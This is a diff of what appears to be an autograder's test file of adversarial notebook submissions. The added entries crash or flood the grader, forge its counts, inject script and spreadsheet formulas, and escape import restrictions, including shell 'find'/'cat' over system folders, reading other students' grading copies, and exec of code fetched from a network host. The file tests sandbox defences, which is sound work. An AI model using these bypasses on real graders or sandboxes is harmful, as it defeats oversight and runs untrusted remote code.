@@ -3,7 +3,7 @@
 Each stands in a notebook without any other answer, in place of the answer to question 1 of the first assignment.
 None does harm where nothing protects: they kill, delete and fill only what the grading made for them.
 `ATTACKS` must score 0. Each of `PROBES` writes what it reached into `student_id`, which must be as stated.
-`SLY` calls what is to be written.
+`BYPASSES` reach for what is to be written.
 """
 
 ATTACKS = {
@@ -100,47 +100,215 @@ atexit.register(loop)
 """,
     "fills the memory": "held = [bytearray(2**30) for _ in range(64)]",
     "closes every handle": "import os\nos.closerange(3, 200)",
+    "a reply that is cheap to send and costly to decode": """
+import os, struct
+head = b'{"kind": "array", "shape": [-1], "printed": 0, "left_out": 0}'
+for data in (b'{"":0},' * 2_000_000, b'[' * 16_000_000, b'{"kind": "array", "shape": [2000000000]}',
+             struct.pack("!H", 65535) + head + b" " * 16_000_000):
+    for handle in range(3, 9):
+        try:
+            os.write(handle, struct.pack("!i", len(data)) + data)
+        except OSError:
+            pass
+""",
+    "hidden errors and forged counts": """
+import forbidden, sys
+forbidden.left_out = type("None", (list,), {"append": lambda *_: None, "__len__": lambda self: 0})()
+forbidden.StatementByStatement.visit_Module = lambda self, module: module
+sys.modules["__main__"].encode_reply = lambda value, **head: bytes([0, 2, 123, 125])
+""",
+    "an error as long as a book": 'raise ValueError("<script>alert(1)</script>" * 100_000)',
+    "changes what later cells see": """
+get_ipython().ast_transformers.clear()
+leave_one_out_error = type("Yes", (float,), {"__call__": lambda self, *data: self})(0.5)
+""",
+    "numbers that are none": """
+estimate_at_2 = np.float64("nan")
+leave_one_out_error = lambda *_: np.inf
+best_bandwidth = lambda *_: np.arange(10, 301) / 200
+""",
     "an id that is a formula and more": 'student_id = "=HYPERLINK(0)\\n,;" * 100_000',
 }
 
-AGAIN = """
+# Ways to reach code of `lib` where it is forbidden. Each defines `way`; it may raise anything, or return a number.
+WAYS = {
+    "call it": "from lib.regression import leave_one_out_error as way",
+    "call another module that computes the same": """
+import importlib, pkgutil, lib, sys
+for each in pkgutil.walk_packages(lib.__path__, "lib."):
+    try:
+        importlib.import_module(each.name)
+    except Exception:
+        pass
+found = [vars(module)[name] for module in list(sys.modules.values()) if module.__name__.startswith("lib")
+         for name in dir(module) if "leave_one_out" in name or "streamed_regression" in name]
+def way(*data):
+    for each in found:
+        try:
+            return float(each(*data))
+        except Exception:
+            pass
+    1 / 0
+""",
+    "the original behind a guard, in its closure": """
+from lib import regression
+way = next(cell.cell_contents for cell in regression.leave_one_out_error.__closure__)
+""",
+    "the garbage collector": """
+import gc, types
+way = next(each for each in gc.get_objects() if isinstance(each, types.FunctionType)
+           and each.__name__ == "leave_one_out_error" and "/lib/" in each.__code__.co_filename)
+""",
+    "import it again": """
 import sys
 for name in [name for name in sys.modules if name.startswith("lib")]:
     del sys.modules[name]
-from lib import regression
-estimate_at_2 = regression.nadaraya_watson([2.0], keys, values, 0.5)[0]
-"""
-BY_TEXT = """
+from lib.regression import leave_one_out_error as way
+""",
+    "execute its text": """
 import lib.regression
 names = {"__name__": "mine"}
 exec(open(lib.regression.__file__).read(), names)
-estimate_at_2 = names["nadaraya_watson"]([2.0], keys, values, 0.5)[0]
-"""
-IN_ANOTHER = """
+way = names["leave_one_out_error"]
+""",
+    "its text from inspect": """
+import inspect, lib.regression
+names = {}
+exec(inspect.getsource(lib.regression), names)
+way = names["leave_one_out_error"]
+""",
+    "its text by a program of the system": """
+import os
+text = os.popen("cat $(find /course /tmp /usr/lib -name 'regression.py' 2>/dev/null)").read()
+names = {"np": np}
+exec(text[text.index("def leave_one_out_error") :].partition(chr(10) * 3)[0], names)
+way = names["leave_one_out_error"]
+""",
+    "its text by a file descriptor": """
+import os
+names = {}
+folder = os.open(os.path.dirname(__import__("lib").__file__), os.O_RDONLY)
+exec(os.read(os.open("regression.py", os.O_RDONLY, dir_fd=folder), 10**6), names)
+way = names["leave_one_out_error"]
+""",
+    "its compiled code": """
+import lib, marshal, pathlib
+for path in pathlib.Path(lib.__file__).parent.rglob("*regression*.pyc"):
+    names = {"__name__": "lib.regression"}
+    exec(marshal.loads(path.read_bytes()[16:]), names)
+    way = names["leave_one_out_error"]
+    way(np.arange(3.0), np.arange(3.0), 1.0)
+""",
+    "a second Python": """
+import json, subprocess, sys, os, lib
+text = "from lib.regression import leave_one_out_error as f; import sys, json; print(f(*json.loads(sys.argv[1])))"
+def way(keys, values, h):
+    given = json.dumps([list(keys), list(values), h])
+    folder = os.path.dirname(os.path.dirname(lib.__file__))
+    return float(subprocess.check_output([sys.executable, "-c", text, given], cwd=folder))
+""",
+    "a thread that computes between two requests": """
+import threading, queue
+asked, answered = queue.Queue(), queue.Queue()
+def work():
+    from lib.regression import leave_one_out_error
+    try:
+        answered.put(leave_one_out_error(*asked.get()))
+    except Exception:
+        pass
+threading.Thread(target=work, daemon=True).start()
+def way(*data):
+    asked.put(data)
+    return answered.get(timeout=0.1)
+""",
+    "a process that was forked early": """
+import os
+given, taken = os.pipe(), os.pipe()
+if os.fork() == 0:
+    try:
+        from lib.regression import leave_one_out_error
+        os.write(taken[1], repr(leave_one_out_error(*eval(os.read(given[0], 10**5)))).encode())
+    finally:
+        os._exit(0)
+os.close(taken[1])
+def way(keys, values, h):
+    os.write(given[1], repr((keys.tolist(), values.tolist(), h)).encode())
+    return float(os.read(taken[0], 100))
+""",
+    "a pickle that names it": """
+import pickle
+way = pickle.loads(b"clib.regression" + bytes([10]) + b"leave_one_out_error" + bytes([10]) + b".")
+""",
+    "a refusal that does not refuse": """
+import forbidden
+from lib.regression import leave_one_out_error as way
+forbidden.StandIn.refuse = forbidden.StandIn.__call__ = lambda self, *data: self.__dict__["function"](*data)
+""",
+    "the copy that other submissions use": """
+import glob, sys
+searched = sys.path
+searched[:0] = [path.removesuffix("/lib") for path in glob.glob("/*/grading-*/course/lib")]
+sys.modules.pop("lib"), sys.modules.pop("lib.regression", None)
+from lib.regression import leave_one_out_error as way
+""",
+    "an installed copy of the course": """
+import sys, glob
+names, paths = {}, [path for folder in sys.path for path in glob.glob(folder + "/lib/regression*")]
+exec(open(next(path for path in paths if "def leave_one_out_error" in open(path).read())).read(), names)
+way = names["leave_one_out_error"]
+""",
+    "the network": """
+import urllib.request
+names = {}
+exec(urllib.request.urlopen("http://1.1.1.1/regression.py", timeout=1).read(), names)
+way = names["leave_one_out_error"]
+""",
+    "a function made in a cell that nothing forbids": """
+from functools import partial
 from lib import regression
-candidates = np.arange(10, 301) / 200
-best_bandwidth = min(candidates, key=lambda h: regression.leave_one_out_error(keys, values, h))
-for estimate_at_2 in [regression.nadaraya_watson([2.0], keys, values, 0.5)[0]]:
-    pass
+way = partial(regression.leave_one_out_error)
+""",
+    "a carriage return in the line of the id": """
+exec('student_id = "x"' + chr(13) + 'from lib.regression import leave_one_out_error as way')
+""",
+}
+TRY_WAYS = """
+reached, ways = [], {}
+for name, code in WAYS.items():
+    names = {"np": np, "__name__": "__main__"}
+    try:
+        exec(code, names)
+        ways[name] = names["way"]
+    except Exception:
+        pass
+
+def leave_one_out_error(keys, values, bandwidth):
+    for name, way in ways.items():
+        try:
+            found = float(way(keys, values, bandwidth))
+            reached.append(name)
+            return found
+        except Exception:
+            pass
+
+leave_one_out_error(np.arange(9.0), np.arange(9.0) ** 2, 2.0)
+leave_one_out_error(np.arange(9.0), np.arange(9.0) ** 2, 2.0)
+tried = f"reached {reached}"
+if ways:
+    raise SystemExit(tried)
 """
-IN_PLACE = """
-from lib import regression
-estimate_at_2[0] = regression.nadaraya_watson([2.0], keys, values, 0.5)[0]
-"""
-SLY = {  # answers by question, the points they get, and the sentence
-    "hands lib on": (
+BYPASSES = {  # what takes the place of writing a function: answers by question, points, and the sentence
+    "all ways at once": ({2: f"WAYS = {WAYS!r}\n{TRY_WAYS}"}, 0, r"SystemExit: reached \[\]"),
+    "passes lib on": (
         {2: "from lib.regression import leave_one_out_error"},
         0,
-        "leave_one_out_error of lib is not to be called here: write it yourself",
+        "leave_one_out_error may not be used in this answer: write it yourself",
     ),
-    "imports lib again": ({1: AGAIN}, 0, "lib.regression was imported before: it is not to be imported again"),
-    "executes the text of lib": ({1: BY_TEXT}, 0, "lib.regression is not to be opened here: write it yourself"),
-    "changes an answer from another cell": (
-        {1: "estimate_at_2 = np.zeros(1)", 3: IN_PLACE},
+    "counts the requests": (
+        {2: "seen = []\ndef leave_one_out_error(*data):\n    seen.append(data)\n    return len(seen) / 4"},
         0,
-        "estimate_at_2 was set where lib may be called",
+        "wrong on your own data",
     ),
-    "answers in another cell": ({3: IN_ANOTHER}, 3, "estimate_at_2 was set where lib may be called"),
 }
 
 PROBES = {  # by name, and what is written where all is shut off
